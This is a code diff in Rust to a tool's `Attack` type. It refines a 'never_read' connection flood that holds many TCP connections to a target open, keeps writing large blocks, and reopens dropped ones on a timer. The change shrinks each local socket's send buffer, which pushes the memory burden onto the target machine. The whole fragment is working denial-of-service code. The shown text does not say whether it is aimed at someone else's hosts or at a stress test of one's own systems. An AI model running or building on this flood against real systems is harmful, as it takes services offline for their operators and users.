@@ -17,6 +17,8 @@ const LOOK: Duration = Duration::from_micros(400);
 const SWEEP: Duration = Duration::from_millis(100);
 /// Never-readers that come again after each sweep.
 const AGAIN_PER_SWEEP: usize = 5;
+/// The kernel's send buffer of each that never reads: theirs would be the memory of other machines.
+const SEND_BUFFER: usize = 64 << 10;
 /// Connections of the flood that are open at once.
 const FLOOD_OPEN: usize = 100;
 
@@ -89,9 +91,14 @@ impl Attack {
     pub fn never_read(&self, to: SocketAddr, connections: usize) {
         let _ = sys::come_last();
         let block = vec![b'x'; 256 << 10];
+        let connect = || {
+            let stream = self.connect(to)?;
+            SockRef::from(&stream).set_send_buffer_size(SEND_BUFFER).ok()?;
+            Some(stream)
+        };
         let mut open: Vec<TcpStream> = Vec::new();
         while self.goes_on() && open.len() < connections {
-            open.extend(self.connect(to));
+            open.extend(connect());
         }
         while self.goes_on() {
             open.retain(|mut stream| match stream.write(&block) {
@@ -99,7 +106,7 @@ impl Attack {
                 Err(error) => error.kind() == ErrorKind::WouldBlock,
             });
             let missing = connections - open.len();
-            open.extend((0..missing.min(AGAIN_PER_SWEEP)).filter_map(|_| self.connect(to)));
+            open.extend((0..missing.min(AGAIN_PER_SWEEP)).filter_map(|_| connect()));
             std::thread::sleep(SWEEP);
         }
     }
